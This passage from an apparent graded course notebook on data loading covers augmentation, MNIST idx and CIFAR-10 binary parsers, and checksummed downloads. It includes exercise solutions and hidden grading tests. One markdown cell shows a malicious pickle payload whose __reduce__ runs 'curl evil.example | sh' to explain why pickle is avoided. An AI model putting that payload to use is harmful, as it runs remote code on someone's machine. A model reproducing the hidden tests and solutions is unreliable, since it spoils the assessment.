            raise ValueError(f"RandomHorizontalFlip p must be a number in [0, 1], got {p!r}.")
        self.p = float(p)

    def __call__(self, x: Any, rng: np.random.Generator | None = None) -> np.ndarray:
        """A new batch (x is not changed) in which each image, with probability p drawn from
        `rng` per sample, has its last axis reversed."""
        x = _image_batch(x, "RandomHorizontalFlip")
        rng = get_rng() if rng is None else rng
        ### BEGIN SOLUTION
        flip = rng.random(len(x)) < self.p
        out = x.copy()
        out[flip] = x[flip][..., ::-1]
        return out
        ### END SOLUTION

    def extra_repr(self) -> str:
        return f"p={self.p}"

# %% [markdown]
# **Stuck?** (optional) `np.pad(x, [(0, 0)] * (x.ndim - 2) + [(p, p), (p, p)])` pads only the
# last two axes. `rng.integers(0, H - h + 1, size=N)` draws the tops (the lefts likewise, `H`
# being the padded height); the index `(np.arange(N), *channels, top, left)`, with
# `channels = (slice(None),) * (x.ndim - 3)`, picks one window per sample. For the flip:
# `rng.random(N) < p` is the coin per sample, and `x[flip][..., ::-1]` the mirrored images.

# %% nbgrader={"grade": true, "grade_id": "test-random-crop-flip", "locked": true, "points": 10, "schema_version": 3, "solution": false}
def test_unit_random_crop_and_flip():
    import pytest

    rng = np.random.default_rng(0)
    images = rng.integers(1, 255, size=(64, 3, 8, 8)).astype(np.float32)

    # No padding: each crop is a window of its own image, at positions that vary across samples.
    crops = RandomCrop(5)(images, rng=np.random.default_rng(1))
    assert crops.shape == (64, 3, 5, 5) and crops.dtype == np.float32
    offsets = [next(((i, j) for i in range(4) for j in range(4)
                     if np.array_equal(crops[n], images[n, :, i:i + 5, j:j + 5])), None) for n in range(64)]
    assert None not in offsets, "every crop must be a window of its own image"
    assert len(set(offsets)) > 8  # per-sample offsets, not one offset for the whole batch

    # Padding: the crop has the original size and zeros where it slid off the image.
    padded = RandomCrop(8, padding=2)(images, rng=np.random.default_rng(2))
    assert padded.shape == images.shape
    assert (padded == 0).any() and set(np.unique(padded)) - {0.0} <= set(np.unique(images))
    # Reproducible from the generator; (N, H, W) batches work too.
    np.testing.assert_array_equal(RandomCrop(5)(images, rng=np.random.default_rng(1)), crops)
    assert RandomCrop((3, 4))(images[:, 0]).shape == (64, 3, 4)

    flip = RandomHorizontalFlip(0.5)(images, rng=np.random.default_rng(3))
    mirrored = np.array([np.array_equal(flip[n], images[n, :, :, ::-1]) for n in range(64)])
    same = np.array([np.array_equal(flip[n], images[n]) for n in range(64)])
    assert np.all(mirrored ^ same) and 16 < mirrored.sum() < 48
    np.testing.assert_array_equal(RandomHorizontalFlip(1.0)(images), images[..., ::-1])
    np.testing.assert_array_equal(RandomHorizontalFlip(0.0)(images), images)

    with pytest.raises(ValueError, match=r"flattened \(N, D\) batch"):
        RandomCrop(2)(np.zeros((4, 10)))
    with pytest.raises(ValueError, match="larger than the padded images"):
        RandomCrop(12, padding=1)(images)

    ### BEGIN HIDDEN TESTS
    # Through a loader with a seed: the same augmented batches twice.
    ds = TensorDataset(images, np.arange(64))
    aug = Compose([RandomCrop(8, padding=1), RandomHorizontalFlip()])
    run1 = [x.data for x, _ in DataLoader(ds, batch_size=16, shuffle=True, seed=5, transform=aug)]
    run2 = [x.data for x, _ in DataLoader(ds, batch_size=16, shuffle=True, seed=5, transform=aug)]
    for a, b in zip(run1, run2):
        np.testing.assert_array_equal(a, b)
    assert run1[0].shape == (16, 3, 8, 8)
    with pytest.raises(ValueError, match=r"\[0, 1\]"):
        RandomHorizontalFlip(1.5)
    with pytest.raises(ValueError, match="positive integer or a pair"):
        RandomCrop(0)
    ### END HIDDEN TESTS


if __name__ == "__main__":
    test_unit_random_crop_and_flip()

# %% [markdown]
# ## 4. Datasets you can generate (given code)
#
# Tests, demos and the first milestones want **small, instant, offline, deterministic** data:
#
# | generator | data | hard for… |
# |---|---|---|
# | `make_xor(n, noise)` | 2-D points near the corners of the unit square, label = x₀ XOR x₁ | any linear model (Minsky & Papert, 1969) |
# | `make_spirals(n_per_class, classes, noise)` | interleaved 2-D spiral arms (the CS231n classic) | a linear model; a small MLP draws the arms |
# | `make_blobs(n_per_class, centers, n_features, std)` | Gaussian clusters | nobody: a sanity check |
# | `load_digits(n_per_class, size)` | 8×8 images of the digits 0–9, drawn from stroke templates | a real but small image task |
#
# Each returns **shuffled** `(X, y)` arrays (float32, int64), like scikit-learn, e.g.
# `TensorDataset(*make_spirals(100))`, and takes a `seed` (`None`: TinyTorch's generator).

# %% nbgrader={"grade": false, "grade_id": "check-generated", "locked": true, "schema_version": 3, "solution": false}
# check_generated_datasets (given, in _generated.py): shapes, dtypes, labels, determinism, and a
# softmax regression that must learn the generated digits.
def test_generated_datasets_given_code():
    check_generated_datasets(verbose=False)


if __name__ == "__main__":
    check_generated_datasets()

# %% [markdown]
# ## 5. Real data on disk
#
# ### Images in memory: bytes, not floats
#
# A file stores each pixel as one byte; a model wants float32 in [0, 1]. Converting at load time
# makes the dataset 4× larger; converting per batch costs a small conversion each time (Memory
# Profiling measures both). `ImageDataset` keeps `.data` as **uint8** `(N, C, H, W)` (like
# torchvision; grey MNIST is `(N, 1, 28, 28)`), `.targets` int64, `.classes` names, and converts
# in `get_batch`. An MLP flattens with `lambda x: x.reshape(len(x), -1)`.
#
# Your turn: `get_batch`, reusing `TensorDataset`'s gather.

# %% nbgrader={"grade": false, "grade_id": "image-dataset", "locked": false, "schema_version": 3, "solution": true}
#| export
class ImageDataset(TensorDataset):
    """Images kept as uint8 (N, C, H, W) in memory, served as float32 in [0, 1], with int64 labels.

    ImageDataset(images, labels, classes=None, name="ImageDataset")
    Attributes: data (uint8 images), targets (int64 labels), classes (a name per label).
    """

    def __init__(self, images: Any, labels: Any, classes: Sequence[str] | None = None,
                 name: str = "ImageDataset") -> None:
        images, labels = as_array(images), as_array(labels)
        if images.dtype != np.uint8 or images.ndim != 4:
            raise TypeError(f"ImageDataset stores pixels as uint8 (N, C, H, W); got {images.dtype} "
                            f"with shape {images.shape}. Float images belong in a TensorDataset.")
        if labels.ndim != 1 or not np.issubdtype(labels.dtype, np.integer):
            raise TypeError(f"ImageDataset labels must be a 1-D integer array, got {labels.dtype} {labels.shape}.")
        super().__init__(images, labels.astype(np.int64, copy=False))
        count = int(labels.max()) + 1 if labels.size else 0
        self.classes = list(classes) if classes is not None else [str(c) for c in range(count)]
        self.name = name

    @property
    def data(self) -> np.ndarray:
        return self.arrays[0]

    @property
    def targets(self) -> np.ndarray:
        return self.arrays[1]

    def get_batch(self, indices: Any) -> tuple[np.ndarray, np.ndarray]:
        """(float32 images in [0, 1], int64 labels) for `indices`: one gather of the uint8
        images (TensorDataset's), then one conversion of the gathered batch only."""
        ### BEGIN SOLUTION
        images, labels = super().get_batch(indices)
        pixels = images.astype(np.float32)
        pixels /= 255
        return pixels, labels
        ### END SOLUTION

    def __repr__(self) -> str:
        _, c, h, w = self.data.shape
        return (f"{self.name}({len(self):,} images of {c}×{h}×{w}, {len(self.classes)} classes; "
                f"uint8 in memory, {self.data.nbytes / 1e6:.1f} MB)")
# %% nbgrader={"grade": true, "grade_id": "test-image-dataset", "locked": true, "points": 6, "schema_version": 3, "solution": false}
def test_unit_image_dataset():
    import pytest

    pixels = np.arange(6 * 2 * 3 * 3, dtype=np.uint8).reshape(6, 2, 3, 3) * 3
    ds = ImageDataset(pixels, np.array([0, 1, 2, 0, 1, 2]), classes=["a", "b", "c"], name="tiny")
    images, labels = ds.get_batch([5, 0])
    assert images.dtype == np.float32 and images.shape == (2, 2, 3, 3) and labels.dtype == np.int64
    np.testing.assert_allclose(images, pixels[[5, 0]] / 255.0, rtol=1e-6)
    image, label = ds[1]
    assert image.shape == (2, 3, 3) and image.dtype == np.float32 and label == 1
    assert ds.data.dtype == np.uint8 and ds.data.nbytes == pixels.nbytes  # bytes, not floats
    assert ds.classes == ["a", "b", "c"] and list(ds.targets) == [0, 1, 2, 0, 1, 2]
    xb, yb = next(iter(DataLoader(ds, batch_size=6)))
    assert xb.dtype == np.float32 and 0.0 <= xb.data.min() and xb.data.max() <= 1.0
    with pytest.raises(TypeError, match="uint8"):
        ImageDataset(pixels.astype(np.float32), np.zeros(6, dtype=np.int64))
    assert "tiny(6 images of 2×3×3, 3 classes" in repr(ds)


if __name__ == "__main__":
    test_unit_image_dataset()

# %% [markdown]
# ### The idx format (MNIST)
#
# MNIST (LeCun, Cortes and Burges, 1998) is four gzipped **idx** files: a header, raw bytes.
#
# ```
#   offset  bytes  meaning                        train-images-idx3-ubyte
#   0       2      zero                           00 00
#   2       1      element type (0x08 = uint8)    08
#   3       1      number of dimensions D         03          → magic number 0x00000803 = 2051
#   4       4·D    size of each dimension,        00 00 ea 60  (60 000)
#                  big-endian uint32              00 00 00 1c  (28)   00 00 00 1c (28)
#   4+4·D   ...    the elements, row-major        47 040 000 pixel bytes
# ```
#
# Labels have magic 2049 (one dimension). The bytes after the header are *viewed* as an array
# of the header's sizes. A parser must **check everything the header claims** (a wrong magic:
# the wrong file; a size mismatch: a truncated one), or a wrong file parses as garbage.

# %% nbgrader={"grade": false, "grade_id": "read-idx", "locked": false, "schema_version": 3, "solution": true}
#| export
IDX_UBYTE = 0x08


def _read_maybe_gzip(path: Path) -> bytes:
    """The bytes of `path`, decompressed if its name ends in .gz; a clear error if the gzip is broken."""
    raw = path.read_bytes()
    if path.suffix != ".gz":
        return raw
    try:
        return gzip.decompress(raw)
    except (EOFError, OSError, zlib.error) as e:
        raise ValueError(f"{path.name} is not a complete gzip file ({e}). "
                         f"Delete it and download it again.") from None


def read_idx(path: str | Path, magic: int | None = None) -> np.ndarray:
    """Read an idx file of unsigned bytes (gzipped if the name ends in .gz) as a uint8 array.

    magic: the expected magic number (2051 for MNIST images, 2049 for labels), or None for any.
    Returns a read-only array viewing the file's bytes, shaped by the header's sizes.
    Every problem (not 00 00 08 D, a wrong magic, a size that disagrees with the header)
    raises ValueError naming the file and the facts (the magic numbers, the promised sizes).
    """
    path = Path(path)
    data = _read_maybe_gzip(path)
    ### BEGIN SOLUTION
    if len(data) < 4 or data[0:2] != b"\x00\x00" or data[2] != IDX_UBYTE:
        raise ValueError(f"{path.name} is not an idx file of unsigned bytes: it starts with "
                         f"{data[:4].hex(' ')}, expected 00 00 08 <dimensions>.")
    ndim = data[3]
    found = int.from_bytes(data[0:4], "big")
    if magic is not None and found != magic:
        raise ValueError(f"{path.name} has magic number {found}, expected {magic} "
                         f"(2051 = images, 2049 = labels): is it the right file?")
    header = 4 + 4 * ndim
    if len(data) < header:
        raise ValueError(f"{path.name} ends inside its header ({len(data)} bytes).")
    sizes = tuple(int(s) for s in np.frombuffer(data, dtype=">u4", count=ndim, offset=4))
    expected = header + int(np.prod(sizes, dtype=np.int64))
    if len(data) != expected:
        raise ValueError(f"{path.name}: the header promises sizes {sizes}, {expected:,} bytes in all, "
                         f"but the file has {len(data):,} bytes. It is truncated or not an idx file.")
    return np.frombuffer(data, dtype=np.uint8, offset=header).reshape(sizes)
    ### END SOLUTION

# %% [markdown]
# **Stuck?** (optional) `int.from_bytes(data[0:4], "big")` is the magic number.
# `np.frombuffer(data, dtype=">u4", count=D, offset=4)` reads the D big-endian sizes; the file
# must hold exactly `4 + 4·D + prod(sizes)` bytes; `np.frombuffer(data, np.uint8, offset=4 + 4·D)`
# then views the elements, and `reshape(sizes)` gives them their shape.

# %% nbgrader={"grade": true, "grade_id": "test-read-idx", "locked": true, "points": 8, "schema_version": 3, "solution": false}
def test_unit_read_idx():
    import pytest

    images = np.random.default_rng(0).integers(0, 256, size=(5, 28, 28), dtype=np.uint8)
    labels = np.array([3, 1, 4, 1, 5], dtype=np.uint8)
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        (tmp / "images.gz").write_bytes(gzip.compress(idx_bytes(images)))
        (tmp / "labels").write_bytes(idx_bytes(labels))
        out = read_idx(tmp / "images.gz", magic=2051)
        assert out.shape == (5, 28, 28) and out.dtype == np.uint8
        np.testing.assert_array_equal(out, images)
        np.testing.assert_array_equal(read_idx(tmp / "labels", magic=2049), labels)

        # Every error names the file, and the facts: the magic numbers, the promised sizes.
        with pytest.raises(ValueError) as err:
            read_idx(tmp / "images.gz", magic=2049)
        assert all(fact in str(err.value) for fact in ("images.gz", "2051", "2049"))
        (tmp / "short").write_bytes(idx_bytes(images)[:-10])
        with pytest.raises(ValueError) as err:
            read_idx(tmp / "short")
        assert "short" in str(err.value) and "(5, 28, 28)" in str(err.value)
        (tmp / "greeting.txt").write_bytes(b"hello, world")
        with pytest.raises(ValueError) as err:
            read_idx(tmp / "greeting.txt")
        assert "greeting.txt" in str(err.value)
        (tmp / "cut.gz").write_bytes(gzip.compress(idx_bytes(images))[:-20])
        with pytest.raises(ValueError, match="cut.gz is not a complete gzip file"):
            read_idx(tmp / "cut.gz")

        ### BEGIN HIDDEN TESTS
        (tmp / "one_byte_too_many").write_bytes(idx_bytes(labels) + b"\x00")
        with pytest.raises(ValueError) as err:
            read_idx(tmp / "one_byte_too_many")
        assert "one_byte_too_many" in str(err.value)
        (tmp / "floats").write_bytes(bytes([0, 0, 0x0D, 1]) + b"\x00\x00\x00\x01" + b"\x00" * 4)
        with pytest.raises(ValueError) as err:                   # type code 0x0D: float32, not bytes
            read_idx(tmp / "floats")
        assert "floats" in str(err.value)
        ### END HIDDEN TESTS


if __name__ == "__main__":
    test_unit_read_idx()

# %% [markdown]
# ### The CIFAR-10 binary format, and why we never unpickle
#
# CIFAR-10 (Krizhevsky, 2009)'s "Python version" is **pickle** files, and `pickle.load` calls
# whatever function the file names. This is a complete pickle:
#
# ```python
# class Payload:
#     def __reduce__(self):
#         return (os.system, ("curl evil.example | sh",))   # pickle.load() runs this
# ```
#
# (Why `torch.load` now defaults to `weights_only=True`.) We use the **binary version**: records
# of 3 073 bytes, `[label 0..9] [1024 red] [1024 green] [1024 blue]` (32×32 planes, row-major).

# %% nbgrader={"grade": false, "grade_id": "read-cifar", "locked": false, "schema_version": 3, "solution": true}
#| export
CIFAR10_RECORD = 1 + 3 * 32 * 32
CIFAR10_CLASSES = ["airplane", "automobile", "bird", "cat", "deer", "dog", "frog", "horse", "ship", "truck"]


def read_cifar10_bin(path: str | Path) -> tuple[np.ndarray, np.ndarray]:
    """Read a CIFAR-10 binary batch file: (images uint8 (N, 3, 32, 32), labels int64 (N,)).

    Every record is 1 label byte (0-9) and 3 072 pixel bytes (red, green, blue planes of 32×32).
    A file that is not a positive whole number of records, or holds a label above 9, raises
    ValueError naming the file (and the impossible label). The images are C-contiguous, so that
    gathering a batch later reads memory in order.
    """
    path = Path(path)
    data = path.read_bytes()
    ### BEGIN SOLUTION
    if not data or len(data) % CIFAR10_RECORD:
        raise ValueError(f"{path.name} has {len(data):,} bytes, which is not a whole number of "
                         f"CIFAR-10 records ({CIFAR10_RECORD} bytes each: 1 label + 3 072 pixels).")
    records = np.frombuffer(data, dtype=np.uint8).reshape(-1, CIFAR10_RECORD)
    labels = records[:, 0].astype(np.int64)
    if labels.max() > 9:
        raise ValueError(f"{path.name} has label {labels.max()} (CIFAR-10 labels are 0-9): it is not a CIFAR-10 batch.")
    images = np.ascontiguousarray(records[:, 1:]).reshape(-1, 3, 32, 32)
    return images, labels
    ### END SOLUTION

# %% [markdown]
# **Stuck?** (optional) `np.frombuffer(data, np.uint8).reshape(-1, CIFAR10_RECORD)` gives one
# row per record: column 0 is the label, columns 1… the pixels, which `reshape(-1, 3, 32, 32)`
# turns into images once `np.ascontiguousarray` has copied them out of the records.

# %% nbgrader={"grade": true, "grade_id": "test-read-cifar", "locked": true, "points": 6, "schema_version": 3, "solution": false}
def test_unit_read_cifar10_bin():
    import pytest

    rng = np.random.default_rng(0)
    images = rng.integers(0, 256, size=(4, 3, 32, 32), dtype=np.uint8)
    labels = np.array([9, 0, 3, 3], dtype=np.uint8)
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "batch.bin"
        path.write_bytes(cifar_bytes(images, labels))
        got_images, got_labels = read_cifar10_bin(path)
        assert got_images.shape == (4, 3, 32, 32) and got_images.dtype == np.uint8
        assert got_labels.dtype == np.int64 and got_labels.tolist() == [9, 0, 3, 3]
        np.testing.assert_array_equal(got_images, images)
        assert got_images.flags.c_contiguous
        # The red plane of record 0 starts right after its label byte.
        raw = path.read_bytes()
        assert raw[1:33] == images[0, 0, 0].tobytes()

        path.write_bytes(raw[:-1])
        with pytest.raises(ValueError) as err:                      # one byte short of 4 records
            read_cifar10_bin(path)
        assert "batch.bin" in str(err.value)
        path.write_bytes(cifar_bytes(images, np.array([1, 2, 3, 200])))
        with pytest.raises(ValueError) as err:
            read_cifar10_bin(path)
        assert "batch.bin" in str(err.value) and "200" in str(err.value)  # the file, the impossible label


if __name__ == "__main__":
    test_unit_read_cifar10_bin()

# %% [markdown]
# ## 6. Downloads you can trust (given code, read along)
#
# Finding and fetching files is `tinytorch/data/_download.py` (tested against a local HTTP
# server by `tests/integration/test_downloads.py`). Read it beside four rules:
#
# 1. **The folder**: `root`, else `$TINYTORCH_DATA`, else `~/.cache/tinytorch` (`data_root`).
# 2. **Checksums before parsing**: `CHECKSUMS` maps each file to its published fingerprint; a
#    mismatch is a `ChecksumError`, never parsed (cut-off downloads, HTML error pages, tampering).
# 3. **Atomic writes**: a download streams into a `.part` file in the *same folder*, hashed as it
#    arrives, then `fsync` and `os.replace`, atomic within one file system.
# 4. **Mirrors, one clear error**: `MIRRORS` are tried in order; `DownloadError` names the file,
#    the folder and what every mirror answered. CIFAR-10's archive is read member by member,
#    each verified, under names the code chooses (never `tar.extractall`).
#
# `tour_of_downloads()` (below) serves a file through `file://` URLs and shows rules 2–4 at work.

# %% nbgrader={"grade": false, "grade_id": "downloads-tour", "locked": false, "schema_version": 3, "solution": false}
if __name__ == "__main__":
    tour_of_downloads()  # given, in _download.py

# %% [markdown]
# ### MNIST and CIFAR-10
#
# ```python
# train, test = download_mnist()      # 60 000 and 10 000 images (1, 28, 28), classes "0"…"9"
# train, test = download_cifar10()    # 50 000 and 10 000 images (3, 32, 32), CIFAR10_CLASSES
# ```
#
# Your turn: the loop body of each. For MNIST, each split is an images file (magic 2051) and a
# labels file (magic 2049); the counts must agree, images must be 28 × 28 and labels 0–9
# (a `ValueError` otherwise), and images get their channel axis, `(N, 1, 28, 28)`. For CIFAR-10,
# a split is several batch files whose images and labels are joined in order.

# %% nbgrader={"grade": false, "grade_id": "download-datasets", "locked": false, "schema_version": 3, "solution": true}
#| export
def download_mnist(root: str | Path | None = None, download: bool = True, progress: bool = True,
                   mirrors: Sequence[str] | None = None) -> tuple[ImageDataset, ImageDataset]:
    """MNIST as (train, test) ImageDatasets: 60 000 and 10 000 images (1, 28, 28), labels 0-9.

    Files: <root>/mnist/*.gz (root: argument, $TINYTORCH_DATA, ~/.cache/tinytorch), checked
    against CHECKSUMS and downloaded from `mirrors` (default MIRRORS["mnist"]) when missing.
    Each ImageDataset has classes ["0", ..., "9"] and the name "MNIST train" / "MNIST test".
    """
    folder, origin = data_root(root) / "mnist", root_origin(root)
    bases = MIRRORS["mnist"] if mirrors is None else list(mirrors)
    splits = {}
    for split, names in MNIST_FILES.items():
        images_path, labels_path = [ensure_file(folder, name, bases, download, progress, origin) for name in names]
        ### BEGIN SOLUTION
        images = read_idx(images_path, magic=2051)
        labels = read_idx(labels_path, magic=2049)
        if images.shape[1:] != (28, 28) or len(images) != len(labels):
            raise ValueError(f"MNIST {split}: images {images.shape} and labels {labels.shape} do not "
                             f"match (expected (N, 28, 28) and (N,)).")
        if labels.size and labels.max() > 9:
            raise ValueError(f"MNIST {split}: label {labels.max()} found; MNIST labels are 0-9.")
        splits[split] = ImageDataset(images[:, None], labels, classes=[str(d) for d in range(10)],
                                     name=f"MNIST {split}")
        ### END SOLUTION
    return splits["train"], splits["test"]


def download_cifar10(root: str | Path | None = None, download: bool = True, progress: bool = True,
                     mirrors: Sequence[str] | None = None) -> tuple[ImageDataset, ImageDataset]:
    """CIFAR-10 as (train, test) ImageDatasets: 50 000 and 10 000 images (3, 32, 32), 10 classes.

    Files: <root>/cifar10/{data_batch_1..5,test_batch}.bin; when any is missing they are
    extracted from cifar-10-binary.tar.gz (obtained like any other file). Every file is verified.
    Each ImageDataset has classes CIFAR10_CLASSES and the name "CIFAR-10 train" / "CIFAR-10 test".
    """
    folder, origin = data_root(root) / "cifar10", root_origin(root)
    bases = MIRRORS["cifar10"] if mirrors is None else list(mirrors)
    names = [name for files in CIFAR10_FILES.values() for name in files]
    missing = [name for name in names if not (folder / name).exists()]
    if missing:
        archive = ensure_file(folder, CIFAR10_ARCHIVE, bases, download, progress, origin)
        extract_cifar10(archive, folder, missing)  # verified while extracting
    for name in names:
        if name not in missing:
            ensure_file(folder, name, bases, download=False, progress=False, origin=origin)
    splits = {}
    for split, files in CIFAR10_FILES.items():
        paths = [folder / name for name in files]
        ### BEGIN SOLUTION
        parts = [read_cifar10_bin(path) for path in paths]
        images = np.concatenate([images for images, _ in parts])
        labels = np.concatenate([labels for _, labels in parts])
        splits[split] = ImageDataset(images, labels, classes=CIFAR10_CLASSES, name=f"CIFAR-10 {split}")
        ### END SOLUTION
    return splits["train"], splits["test"]

# %% [markdown]
# **Stuck?** (optional) `read_idx(path, magic=...)` returns `(N, 28, 28)`; `images[:, None]`
# adds the channel axis without a copy. For CIFAR-10, `read_cifar10_bin` each path and
# `np.concatenate` the images and the labels separately.

# %% nbgrader={"grade": true, "grade_id": "test-download-datasets", "locked": true, "points": 10, "schema_version": 3, "solution": false}
def test_unit_download_mnist_and_cifar10():
    import pytest

    rng = np.random.default_rng(0)
    mnist = {}
    for (images_name, labels_name), n in [(MNIST_FILES["train"], 6), (MNIST_FILES["test"], 3)]:
        mnist[images_name] = gzip.compress(idx_bytes(rng.integers(0, 256, size=(n, 28, 28), dtype=np.uint8)))
        mnist[labels_name] = gzip.compress(idx_bytes(rng.integers(0, 10, size=n, dtype=np.uint8)))
    cifar = {name: cifar_bytes(rng.integers(0, 256, size=(2, 3, 32, 32)), rng.integers(0, 10, size=2))
             for files in CIFAR10_FILES.values() for name in files}

    with tempfile.TemporaryDirectory() as tmp, registered_checksums({**mnist, **cifar}):
        root = Path(tmp)
        for folder, files in (("mnist", mnist), ("cifar10", cifar)):
            (root / folder).mkdir()
            for name, data in files.items():
                (root / folder / name).write_bytes(data)

        train, test = download_mnist(root=root, download=False)
        assert len(train) == 6 and len(test) == 3
        assert train.data.shape == (6, 1, 28, 28) and train.data.dtype == np.uint8
        x, y = train[0]
        assert x.shape == (1, 28, 28) and x.dtype == np.float32 and 0 <= y <= 9
        assert train.classes == [str(d) for d in range(10)] and train.name == "MNIST train"
        np.testing.assert_array_equal(test.data[:, 0], read_idx(root / "mnist" / MNIST_FILES["test"][0]))

        train, test = download_cifar10(root=root, download=False)
        assert len(train) == 10 and len(test) == 2 and train.data.shape == (10, 3, 32, 32)
        assert train.classes == CIFAR10_CLASSES and test.targets.dtype == np.int64
        images, labels = read_cifar10_bin(root / "cifar10" / "data_batch_2.bin")
        np.testing.assert_array_equal(train.data[2:4], images)           # the files joined in order
        np.testing.assert_array_equal(train.targets[2:4], labels)

        # Labels that do not match the images: a ValueError, not a dataset.
        mnist[MNIST_FILES["test"][1]] = gzip.compress(idx_bytes(np.zeros(2, dtype=np.uint8)))
        (root / "mnist" / MNIST_FILES["test"][1]).write_bytes(mnist[MNIST_FILES["test"][1]])
        with registered_checksums(mnist), pytest.raises(ValueError):
            download_mnist(root=root, download=False)


if __name__ == "__main__":
    test_unit_download_mnist_and_cifar10()

# %% [markdown]
# ## Complexity Analysis
#
# For a dataset of `N` samples of `D` values each, batch size `B`:
#
# | step | cost |
# |---|---|
# | the order of an epoch | O(N) time, 8N bytes, once per epoch |
# | a batch, fast or slow path | O(B·D) bytes copied; **1** NumPy call per array, or **B** Python calls |
# | uint8 → float32, per batch | O(B·D); keeps the dataset 4× smaller |
# | transforms | O(B·D); `RandomCrop` also pads, its window view is free |
# | checksum, idx / CIFAR parse | O(file size); constant memory for the hash, `frombuffer` is free |
#
# Below, both paths run on random bytes shaped like MNIST. A per-sample dataset that decodes
# files is slower still: that is where PyTorch's worker processes come in.

# %% nbgrader={"grade": false, "grade_id": "analyze-batching-speed", "locked": false, "schema_version": 3, "solution": false}
def _machine() -> str:  # where a measurement ran: CPU count and the BLAS thread limit, if set
    threads = os.environ.get("OMP_NUM_THREADS") or os.environ.get("OPENBLAS_NUM_THREADS") or "not set"
    return f"{os.cpu_count()} CPUs, OMP/BLAS threads: {threads}"


def analyze_batching_speed(n: int = 60_000, batch_sizes: tuple[int, ...] = (64, 256), seconds: float = 1.0) -> dict:
    """Batches per second through a DataLoader: one gather per batch vs one __getitem__ per sample."""
    rng = np.random.default_rng(0)
    images = rng.integers(0, 256, size=(n, 1, 28, 28), dtype=np.uint8)
    labels = rng.integers(0, 10, size=n)
    fast = ImageDataset(images, labels)

    class PerSample(Dataset):  # the same data, one sample per call, as a first Dataset is written
        def __len__(self):
            return n

        def __getitem__(self, i):
            return images[i].astype(np.float32) / 255, labels[i]

    slow = PerSample()
    results = {}
    print(f"measured on {_machine()}:")
    for batch_size in batch_sizes:
        for name, dataset in (("fast", fast), ("slow", slow)):
            loader = DataLoader(dataset, batch_size=batch_size, shuffle=True, seed=0)
            count, start = 0, time.perf_counter()
            while time.perf_counter() - start < seconds:
                for _ in zip(range(50), loader):
                    count += 1
            rate = count / (time.perf_counter() - start)
            results[(name, batch_size)] = rate
            print(f"batch {batch_size:>4}, {name} path: {rate:8.0f} batches/s = {rate * batch_size / 1e3:8.0f}k samples/s"
                  f"   (one MNIST epoch: {n / batch_size / rate:6.2f} s)")
        print(f"  → the fast path is {results[('fast', batch_size)] / results[('slow', batch_size)]:.1f}× faster")
    return results


if __name__ == "__main__":
    analyze_batching_speed()

# %% [markdown]
# ## Memory Profiling
#
# Section 5 keeps images as uint8 and converts per batch. Is that free? Below: the bytes of the
# training images as uint8 and as float32, and the time to gather a batch from each (the real
# MNIST when `$TINYTORCH_DATA` has it). Gathering uint8 reads 4× fewer scattered bytes.

# %% nbgrader={"grade": false, "grade_id": "profile-dataset-memory", "locked": false, "schema_version": 3, "solution": false}
def profile_dataset_memory(batch_size: int = 256, repeats: int = 200) -> dict[str, float]:
    """Dataset bytes as uint8 vs float32, and the per-batch price of converting, measured."""
    try:
        train, _ = download_mnist(download=False, progress=False)
        source = "the real MNIST"
    except (DownloadError, ChecksumError):
        rng = np.random.default_rng(0)
        train = ImageDataset(rng.integers(0, 256, size=(60_000, 1, 28, 28), dtype=np.uint8),
                             rng.integers(0, 10, size=60_000))
        source = "random bytes shaped like MNIST (set $TINYTORCH_DATA to use the real files)"
    as_float = TensorDataset(train.data.astype(np.float32) / 255, train.targets)
    print(f"{source}:")
    print(f"  uint8 images:   {train.data.nbytes:>12,} bytes ({train.data.nbytes / 1e6:6.1f} MB)")
    print(f"  float32 images: {as_float.arrays[0].nbytes:>12,} bytes ({as_float.arrays[0].nbytes / 1e6:6.1f} MB)")

    indices = [np.random.default_rng(k).integers(0, len(train), batch_size) for k in range(repeats)]
    timings = {}
    for name, dataset in (("uint8 → float32 per batch", train), ("float32 stored", as_float)):
        best = float("inf")
        for _ in range(3):
            start = time.perf_counter()
            for idx in indices:
                dataset.get_batch(idx)
            best = min(best, (time.perf_counter() - start) / repeats)
        timings[name] = best
        print(f"  batch of {batch_size}, {name:<26}: {best * 1e3:6.3f} ms")
    return {"uint8_bytes": train.data.nbytes, "float32_bytes": as_float.arrays[0].nbytes, **timings}


if __name__ == "__main__":
    profile_dataset_memory()

# %% [markdown]
# ## Production Context
#
# **`torch.utils.data`** adds iterable-style datasets (streams), samplers, `collate_fn` (our
# `stack_samples`), `__getitems__` (our `get_batch`) and **worker processes** that prepare
# batches while the GPU computes. Before PyTorch 1.9 every worker inherited a *copy* of NumPy's
# global generator and drew the same "random" augmentations; a per-loader generator avoids that.
# **At scale** the input pipeline is often the bottleneck: systems decode on the GPU (DALI),
# precompute compact formats (FFCV, WebDataset) and memory-map columns (Hugging Face `datasets`).
#
# ## ML Systems Thinking
#
# 1. Take the epoch times `analyze_batching_speed` printed and time one training step of module
#    03's MLP at batch 64. What fraction of training does each path cost? And worker processes?
# 2. Our loader spawns its generator at construction; PyTorch draws a seed at each `__iter__`.
#    Give a program where the two differ after `manual_seed(0)`.
# 3. Compute the size of ImageNet's 1.28 million training images at 224×224×3 as uint8 and as
#    float32. Which of this module's decisions survive at that scale, and which must change?
# 4. For CIFAR (N = 256, padding 4, crop 32), how many elements does `RandomCrop`'s window view
#    describe, and how many bytes does it occupy? Why does the fancy index copy only `N·C·h·w`?
# 5. A mirror answers status 200 with an HTML "quota exceeded" page. Which check in
#    `_download.py` catches it? Why must the `.part` file share the destination's folder?
#
# ## Module Summary
#
# - **`stack_samples`, `Dataset`, `TensorDataset`**: the protocol, plus `get_batch(indices)`,
#   one fancy index per array.
# - **`DataLoader`**: batches, `drop_last`, a fresh order per epoch from a per-loader generator,
#   float32 inputs and int64 labels, `state_dict()` to resume exactly.
# - **Batch transforms**: `Normalize`, `Compose`, `RandomCrop` (a sliding-window view, no
#   loop), `RandomHorizontalFlip`, reproducible through the loader's generator.
# - **Real data**: `read_idx` and `read_cifar10_bin` check every header; `ImageDataset` keeps
#   uint8 and converts per batch; `download_mnist`/`download_cifar10` parse files the given
#   code found, verified and wrote atomically. No pickle anywhere.
#
# **Next:** milestone 03 trains an MLP on MNIST with these loaders, and module 09 adds
# convolutions, which take the `(N, C, H, W)` batches of this module as they are.
